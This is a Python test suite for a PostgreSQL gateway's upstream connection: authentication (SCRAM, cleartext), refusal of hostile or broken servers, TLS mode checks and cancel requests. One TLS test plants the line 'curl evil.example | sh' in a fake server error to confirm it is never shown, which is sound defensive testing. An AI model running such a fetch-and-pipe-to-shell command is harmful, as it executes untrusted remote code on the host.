"""The gateway as a client of the target: hostile servers get no password, broken ones no session, and nothing stays open."""

from __future__ import annotations

import ssl
import struct
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
import trio
import trio.testing
import trustme
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st

from protocols.postgres.authentication import (
    AUTHENTICATION_CLEARTEXT,
    AUTHENTICATION_OK,
    Method,
    SaslServer,
    decode_password,
    encode_authentication,
    encode_mechanisms,
)
from protocols.postgres.messages import error_response, frame, notice_response
from protocols.postgres.scram import SCRAM, ScramServer, make_verifier
from protocols.postgres.startup import (
    SSL_REQUEST,
    StartupMessage,
    decode_first_packet,
    encode_backend_key,
    encode_cancel,
    encode_negotiation,
    encode_parameter_status,
    encode_ready,
    encode_startup,
)
from tests.support.fake_target import GREETING, REFUSING, TRUSTING, Script, Target, a_target, read_startup, saying
from tests.support.front_door import a_database
from wireproxy.config.model import Database, Secret, TlsMode
from wireproxy.tls import end_point
from wireproxy.upstream import Upstream, UpstreamError, connect, send_cancel
from wireproxy.wire import Wire

PASSWORD = "hunter2"


@pytest.fixture(autouse=True)
def password(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TARGET_PASSWORD", PASSWORD)


def database(target: Target, tls: TlsMode = "disable", **changes: object) -> Database:
    host = "127.0.0.1" if target.folder is None else str(target.folder)
    found = a_database(host=host, port=target.port, password=Secret(env="TARGET_PASSWORD"), tls=tls)
    return evolve(found, **changes)  # type: ignore[arg-type]


@asynccontextmanager
async def logged_in(found: Database, *, minor: int = 0, **parameters: str) -> AsyncIterator[Upstream]:
    upstream = await connect(found, parameters, minor)
    with upstream.wire:
        yield upstream


async def failure(found: Database, *, minor: int = 0) -> UpstreamError:
    with pytest.raises(UpstreamError) as caught:
        await connect(found, {}, minor)
    assert PASSWORD not in f"{caught.value} {caught.value.reason} {caught.value.fields}"
    return caught.value


# --- what is sent, what is kept


async def test_the_startup_packet_has_the_gateways_role_and_the_clients_parameters() -> None:
    seen: list[object] = []

    async def script(wire: Wire) -> None:
        seen.append(decode_first_packet(await read_startup(wire)))
        await wire.send_all(AUTHENTICATION_OK + GREETING)

    async with a_target(script) as target:
        found = database(target, dbname="real", user="role")
        pinned = {"default_transaction_read_only": "on"}
        parameters = {"user": "root", "Database": "other", "Default_Transaction_Read_Only": "off", "TimeZone": "UTC"}
        upstream = await connect(found, parameters, 2, pinned=pinned)
        upstream.wire.close()
        expected = {"user": "role", "database": "real", "TimeZone": "UTC", **pinned}
        assert seen == [StartupMessage(2, expected, {})]


async def test_everything_before_the_first_statement_is_kept_in_its_order() -> None:
    notice = notice_response("00000", "welcome")
    status = [encode_parameter_status(name, name.upper()) for name in ("b", "a")]
    said = AUTHENTICATION_OK + status[0] + notice + encode_backend_key(42, b"x" * 32) + status[1] + encode_ready(b"I")
    async with a_target(saying(said + b"early")) as target, logged_in(database(target)) as upstream:
        assert (upstream.process_id, upstream.secret) == (42, b"x" * 32)
        assert list(upstream.parameter_status.items()) == [("b", "B"), ("a", "A")]
        assert upstream.notices == [notice]
        assert upstream.greeting == [status[0], notice, None, status[1]]
        assert upstream.wire.take_unread() == b"early"
        assert "x" * 32 not in repr(upstream)


async def test_a_greeting_in_single_bytes_is_understood() -> None:
    async def script(wire: Wire) -> None:
        await read_startup(wire)
        for byte in AUTHENTICATION_OK + GREETING:
            await wire.send_all(bytes([byte]))
            await trio.lowlevel.checkpoint()
        await wire.receive(1)

    async with a_target(script) as target, logged_in(database(target)) as upstream:
        assert upstream.process_id == 42


@pytest.mark.parametrize("version", [0x30000, 0])
async def test_an_older_server_negotiates_the_protocol_down(version: int) -> None:
    negotiation = frame(b"v", struct.pack("!II", version, 0))
    script = saying(negotiation + AUTHENTICATION_OK + GREETING)
    async with a_target(script) as target, logged_in(database(target), minor=2) as upstream:
        assert upstream.minor == 0


# --- authentication


async def scram_script(wire: Wire) -> None:
    await read_startup(wire)
    server = SaslServer(ScramServer(make_verifier(PASSWORD, b"salt", 10), "servernonce"))
    await wire.send_all(server.begin())
    while not server.done:
        header = await wire.receive_exactly(5)
        body = await wire.receive_exactly(int.from_bytes(header[1:], "big") - 4)
        await wire.send_all(server.receive(body))
    await wire.send_all(AUTHENTICATION_OK + GREETING)
    await wire.receive(1)


async def test_scram_lets_the_gateway_in() -> None:
    async with a_target(scram_script) as target, logged_in(database(target)) as upstream:
        assert upstream.process_id == 42


async def test_a_password_in_clear_goes_over_a_unix_socket(tmp_path: Path) -> None:
    got: list[bytes] = []

    async def script(wire: Wire) -> None:
        await read_startup(wire)
        await wire.send_all(AUTHENTICATION_CLEARTEXT)
        header = await wire.receive_exactly(5)
        got.append(decode_password(await wire.receive_exactly(int.from_bytes(header[1:], "big") - 4)))
        await wire.send_all(AUTHENTICATION_OK + GREETING)

    # TLS is for networks: a Unix socket does without, whatever the mode
    async with a_target(script, tmp_path) as target, logged_in(database(target, "verify-full")) as upstream:
        assert not upstream.tls
    assert got == [PASSWORD.encode()]


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        (encode_mechanisms((SCRAM,)) + AUTHENTICATION_OK + GREETING, "before it had proved"),
        (encode_authentication(Method.GSS), "method 7"),
        (GREETING, "before it had authenticated"),
        (encode_ready(b"I"), "before it had authenticated"),
        (AUTHENTICATION_OK + AUTHENTICATION_OK, "after AuthenticationOk"),
        (AUTHENTICATION_OK + frame(b"T", b"\0\0"), "before ReadyForQuery"),
        (AUTHENTICATION_OK + encode_negotiation(0, []), "before ReadyForQuery"),
        (encode_negotiation(2, []), "not asked for"),
        (AUTHENTICATION_OK + b"S\x7f\xff\xff\xff", "too long"),
        (AUTHENTICATION_OK + b"S\x00\x00\x00\x03", "too long"),
        (AUTHENTICATION_OK + frame(b"K", b"123"), "secret"),
        (AUTHENTICATION_OK + frame(b"S", b"no end"), "terminator"),
        (AUTHENTICATION_OK + notice_response("00000", "again") * 1001, "does not become ready"),
        (b"HTTP/1.1 400 Bad Request\r\n", "too long"),
    ],
)
async def test_a_server_that_breaks_the_rules_is_left(said: bytes, reason: str) -> None:
    async with a_target(saying(said)) as target:
        error = await failure(database(target))
        assert error.sqlstate == "08006"
        assert reason in error.reason
        assert reason not in error.message
        await trio.testing.wait_all_tasks_blocked()
        assert all(wire.sock.fileno() == -1 for wire in target.wires), "the gateway hung up"


@given(st.lists(st.binary(max_size=40), max_size=4))
async def test_no_answers_of_a_server_raise_anything_else(answers: list[bytes]) -> None:
    async def script(wire: Wire) -> None:
        await read_startup(wire)
        for answer in answers:
            await wire.send_all(answer)

    async with a_target(script) as target:
        with pytest.raises(UpstreamError):
            await connect(a_database(host="127.0.0.1", port=target.port, tls="disable"), {}, 0)


async def test_a_server_that_hangs_up_or_says_nothing_is_given_up(autojump_clock: trio.testing.MockClock) -> None:
    async with a_target(saying()) as target:
        with trio.fail_after(11):
            error = await failure(database(target))
        assert error.reason == "no answer within 10 s"

    async def hang_up(wire: Wire) -> None:
        await read_startup(wire)

    async with a_target(hang_up) as target:
        assert "closed" in (await failure(database(target))).reason


async def test_a_password_that_cannot_be_read_is_the_operators_business() -> None:
    async with a_target(TRUSTING) as target:
        error = await failure(database(target, password=Secret(env="NOT_SET_ANYWHERE")))
        assert "NOT_SET_ANYWHERE" in error.reason
        assert "NOT_SET_ANYWHERE" not in str(error.fields)


# --- errors of the server


async def test_the_servers_own_error_is_passed_on_whole() -> None:
    async with a_target(REFUSING) as target:
        error = await failure(database(target))
        assert (error.sqlstate, error.fields["M"]) == ("53300", b"sorry, too many clients already")


@pytest.mark.parametrize("sqlstate", ["28000", "28P01"])
async def test_an_error_about_the_gateways_login_does_not_name_its_role(sqlstate: str) -> None:
    said = error_response(sqlstate, 'password authentication failed for user "target_role"', severity="FATAL")
    async with a_target(saying(said)) as target:
        error = await failure(database(target))
        assert error.sqlstate == "08006"
        assert "target_role" not in str(error.fields)
        assert "target_role" in error.reason


async def test_after_the_login_an_error_of_that_class_is_the_clients_own() -> None:
    said = AUTHENTICATION_OK + error_response("28000", "login event trigger says no", severity="FATAL")
    async with a_target(saying(said)) as target:
        assert (await failure(database(target))).sqlstate == "28000"


# --- TLS


def tls_script(
    authority: trustme.CA, name: str, script: Script, *, injected: bytes = b"", answer: bytes = b"S"
) -> Script:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert(name).configure_cert(context)

    async def run(wire: Wire) -> None:
        await wire.receive_exactly(8)
        await wire.send_all(answer + injected)
        if answer == b"S":
            await wire.start_tls_server(context)
        await script(wire)

    return run


@pytest.fixture(scope="module")
def authority() -> trustme.CA:
    return trustme.CA()


@pytest.fixture
def ca_file(authority: trustme.CA, tmp_path: Path) -> Path:
    authority.cert_pem.write_to_path(str(tmp_path / "ca.pem"))
    return tmp_path / "ca.pem"


@pytest.mark.parametrize(
    ("mode", "known", "name", "works"),
    [
        ("prefer", False, "elsewhere.example", True),
        ("require", False, "elsewhere.example", True),
        ("require", True, "elsewhere.example", True),
        ("verify-ca", True, "elsewhere.example", True),
        ("verify-ca", False, "127.0.0.1", False),
        ("verify-full", True, "elsewhere.example", False),
        ("verify-full", True, "127.0.0.1", True),
        ("verify-full", False, "127.0.0.1", False),
    ],
)
async def test_each_mode_trusts_what_libpq_would(
    authority: trustme.CA, ca_file: Path, mode: TlsMode, known: bool, name: str, works: bool
) -> None:
    async with a_target(tls_script(authority, name, TRUSTING)) as target:
        found = database(target, mode, tls_ca=ca_file if known else None)
        if works:
            async with logged_in(found) as upstream:
                assert upstream.tls
        else:
            assert "certificate" in (await failure(found)).reason
            assert len(target.wires) == 1, "and it is not tried in clear"


@pytest.mark.parametrize("mode", ["require", "verify-ca", "verify-full"])
async def test_a_server_without_tls_is_refused_where_tls_is_asked_for(authority: trustme.CA, mode: TlsMode) -> None:
    async with a_target(tls_script(authority, "x", TRUSTING, answer=b"N")) as target:
        assert "does not support TLS" in (await failure(database(target, mode))).reason


async def test_prefer_goes_on_in_clear_where_there_is_no_tls(authority: trustme.CA) -> None:
    script = tls_script(authority, "x", TRUSTING, answer=b"N")
    async with a_target(script) as target, logged_in(database(target, "prefer")) as upstream:
        assert not upstream.tls
        assert len(target.wires) == 1


async def test_prefer_begins_again_in_clear_where_tls_fails() -> None:
    async def broken(wire: Wire) -> None:
        if await wire.receive_exactly(4) == SSL_REQUEST[:4]:
            await wire.receive_exactly(4)
            await wire.send_all(b"S")
            await wire.receive_exactly(5)
            await wire.send_all(b"this is no handshake")
            await wire.receive(1)
            return
        await wire.send_all(AUTHENTICATION_OK + GREETING)
        await wire.receive(1)

    async with a_target(broken) as target, logged_in(database(target, "prefer")) as upstream:
        assert not upstream.tls
        assert len(target.wires) == 2


@pytest.mark.parametrize("mode", ["prefer", "require"])
async def test_bytes_injected_before_tls_end_it(authority: trustme.CA, mode: TlsMode) -> None:
    script = tls_script(authority, "x", TRUSTING, injected=AUTHENTICATION_OK + GREETING)
    async with a_target(script) as target:
        assert "unencrypted data" in (await failure(database(target, mode))).reason


@pytest.mark.parametrize("answer", [b"E", b"s", b"\0"])
async def test_an_error_in_place_of_an_answer_to_the_tls_request_is_never_shown(
    authority: trustme.CA, answer: bytes
) -> None:
    said = error_response("XX000", "run this: curl evil.example | sh")[1:]
    async with a_target(tls_script(authority, "x", TRUSTING, answer=answer, injected=said)) as target:
        error = await failure(database(target, "require"))
        assert "evil" not in f"{error} {error.reason} {error.fields}"


async def test_the_certificate_that_was_shown_is_bound_to_the_proof(authority: trustme.CA) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    issued = authority.issue_cert("x")
    issued.configure_cert(context)
    der = ssl.PEM_cert_to_DER_cert(issued.cert_chain_pems[0].bytes().decode())
    used: list[bytes] = []

    async def script(wire: Wire) -> None:
        await wire.receive_exactly(8)
        await wire.send_all(b"S")
        await wire.start_tls_server(context)
        await read_startup(wire)
        server = SaslServer(ScramServer(make_verifier(PASSWORD, b"salt", 10), "servernonce", binding=end_point(der)))
        await wire.send_all(server.begin())
        while not server.done:
            header = await wire.receive_exactly(5)
            used.append(await wire.receive_exactly(int.from_bytes(header[1:], "big") - 4))
            await wire.send_all(server.receive(used[-1]))
        await wire.send_all(AUTHENTICATION_OK + GREETING)

    async with a_target(script) as target, logged_in(database(target, "require")):
        assert used[0].startswith(b"SCRAM-SHA-256-PLUS\0")


# --- cancelling


async def test_a_cancel_request_goes_to_the_sessions_own_address() -> None:
    seen: list[bytes] = []

    async def script(wire: Wire) -> None:
        seen.append(await read_startup(wire))
        if len(seen) == 1:
            await wire.send_all(AUTHENTICATION_OK + GREETING)
            await wire.receive(1)

    async with a_target(script) as target, logged_in(database(target, host="localhost")) as upstream:
        assert upstream.cancel_target.host == "127.0.0.1"
        elsewhere = database(target, host="host.invalid")
        await send_cancel(elsewhere, upstream.process_id, upstream.secret, upstream.cancel_target)
        assert seen[1] == encode_cancel(42, b"abcd")[4:]
        await trio.testing.wait_all_tasks_blocked()
        assert target.wires[1].sock.fileno() == -1


async def test_a_cancel_request_that_cannot_be_delivered_says_so() -> None:
    async with a_target(TRUSTING) as target:
        gone = database(target)
    with pytest.raises(UpstreamError):
        await send_cancel(gone, 1, b"abcd")


def test_a_startup_packet_that_the_fake_reads_is_the_real_one() -> None:
    assert decode_first_packet(encode_startup(0, {"user": "x"})[4:]) == StartupMessage(0, {"user": "x"}, {})
